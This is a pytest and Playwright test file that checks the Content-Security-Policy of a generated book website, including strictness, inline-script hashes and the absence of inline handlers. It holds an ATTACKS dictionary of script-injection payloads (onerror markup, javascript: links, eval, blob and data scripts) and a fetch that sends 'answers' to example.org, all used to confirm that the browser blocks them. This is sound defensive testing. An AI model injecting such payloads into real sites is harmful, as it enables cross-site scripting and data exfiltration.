"""The page policy: there on every page, no wider than needed, and it really stops what tries to run."""

from __future__ import annotations

import pytest
from browse import CHAPTER, FLAGS, HOME, SEARCH, pages_of
from markup import Page, script_hash
from playwright.sync_api import TimeoutError as Timeout

# Counts calls instead of opening a dialog or filling the screen.
STUBS = """
window.calls = [];
window.print = () => window.calls.push("print");
Element.prototype.requestFullscreen = function () {
  window.calls.push("fullscreen " + this.localName);
  return Promise.resolve();
};
"""
HACKED = "() => window.hacked !== undefined"


@pytest.fixture(scope="module")
def pages(site) -> dict[str, Page]:
    """Every page of the built book, taken apart."""
    return {path: Page((site / path).read_text(encoding="utf8")) for path in pages_of(site)}


def test_every_page_states_its_policy_before_anything_can_load(pages):
    wrong = {}
    for path, page in pages.items():
        head = [(tag, attrs) for tag, attrs in page.tags if tag not in ("html", "head")]
        policy = [
            n for n, (_, attrs) in enumerate(head) if attrs.get("http-equiv", "").lower() == "content-security-policy"
        ]
        before = [one for one in head[: policy[0]] if one[0] != "title" and "charset" not in one[1]] if policy else head
        if len(policy) != 1 or before:
            wrong[path] = before[:1]
    assert not wrong


def test_the_policy_allows_scripts_of_the_book_only(pages):
    wrong = []
    for path, page in pages.items():
        policy = page.policy
        scripts = policy.get("script-src", policy.get("default-src", ["anything"]))
        sure = {
            "default-src": policy.get("default-src") in (["'self'"], ["'none'"]),
            "script-src": all(one in ("'self'", "'none'") or one.startswith("'sha256-") for one in scripts),
        }
        if policy.get("default-src") != ["'none'"]:  # the front door loads nothing at all
            sure |= {name: policy.get(name) == ["'none'"] for name in ("object-src", "base-uri")}
            sure["style-src"] = set(policy.get("style-src", [])) == {"'self'", "'unsafe-inline'"}
            sure |= {name: set(policy.get(name, [])) == {"'self'", "data:"} for name in ("img-src", "font-src")}
        wrong += [(path, name) for name, right in sure.items() if not right]
    assert not wrong


def test_every_inline_script_is_named_by_its_hash_and_nothing_else_is(pages):
    for path, page in pages.items():
        named = {one for one in page.policy.get("script-src", []) if one.startswith("'sha256-")}
        assert named == {script_hash(text) for text in page.inline_scripts}, path
    assert any(page.inline_scripts for page in pages.values()), "the parser found no inline script at all"


def test_no_page_has_a_handler_in_an_attribute_or_a_script_address(pages):
    found = [
        (path, tag, name)
        for path, page in pages.items()
        for tag, attrs in page.tags
        for name, value in attrs.items()
        if name.startswith("on") or value.strip().lower().startswith(("javascript:", "vbscript:"))
    ]
    assert not found


ELEMENT = "const one = document.createElement('{0}'); {1}; document.body.append(one);"
ATTACKS = {
    "inline script": ELEMENT.format("script", "one.textContent = 'window.hacked = 1'"),
    "data script": ELEMENT.format("script", "one.src = 'data:text/javascript,window.hacked=1'"),
    "blob script": ELEMENT.format("script", "one.src = URL.createObjectURL(new Blob(['window.hacked=1']))"),
    "foreign script": ELEMENT.format("script", "one.src = 'https://example.org/x.js'"),
    "foreign image": ELEMENT.format("img", "one.src = 'https://example.org/x.png'"),
    "foreign frame": ELEMENT.format("iframe", "one.src = 'https://example.org/'"),
    "plug-in": ELEMENT.format("object", "one.data = 'https://example.org/'"),
    "handler attribute": ELEMENT.format("button", "one.setAttribute('onclick', 'window.hacked = 1')") + "one.click();",
    "handler in markup": "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=window.hacked=1>');",
    "script address": ELEMENT.format("a", "one.href = 'javascript:window.hacked=1'") + "one.click();",
    "eval": "eval('window.hacked = 1');",
    "new Function": "new Function('window.hacked = 1')();",
    "timer with text": "setTimeout('window.hacked = 1');",
    "base": "const one = document.createElement('base'); one.href = 'https://example.org/'; document.head.append(one);",
    "sending": "fetch('https://example.org/?answers');",
}
# From a timer, because what the test's own evaluation runs is exempt from the policy.
ATTACK = """() => {
  window.refusal = undefined;
  const note = (event) => window.refusal = event.effectiveDirective;
  document.addEventListener("securitypolicyviolation", note, { once: true });
  setTimeout(() => { try { %s } catch {} });
}"""


@pytest.mark.parametrize("way", ["root", "file"])
@pytest.mark.parametrize("path", [HOME, CHAPTER, SEARCH])
def test_the_browser_refuses_what_the_policy_forbids(page_at, path, way):
    visit = page_at(path, base=way)
    for name, code in ATTACKS.items():
        visit.page.evaluate(ATTACK % code)
        try:
            visit.page.wait_for_function("() => window.refusal", timeout=5_000)
        except Timeout:
            pytest.fail(f"{name}: the policy did not refuse it")
        assert not visit.page.evaluate(HACKED), name
    assert not visit.outside


def test_the_attacks_would_work_without_the_policy(page_at):
    """What shows that the test above can fail."""
    for name in ("inline script", "handler attribute", "eval"):
        page = page_at(HOME, bypass_csp=True).page
        page.evaluate(ATTACK % ATTACKS[name])
        page.wait_for_function(HACKED)


def press(page, action: str) -> None:
    """Press the theme's button for `action`, opening the menu that holds it."""
    button = page.locator(f"[data-action={action}]").first
    if not button.is_visible():
        page.locator(".dropdown:has([data-action]) > button").first.click()
    button.click()


@pytest.mark.parametrize("path", [HOME, FLAGS, CHAPTER])
def test_the_themes_buttons_work_as_listeners(visit_with, path):
    visit = visit_with()
    visit.context.add_init_script(STUBS)
    page = visit.open(path)
    press(page, "print")
    press(page, "fullscreen")
    assert page.evaluate("() => window.calls") == ["print", "fullscreen html"]
    assert not visit.faults()
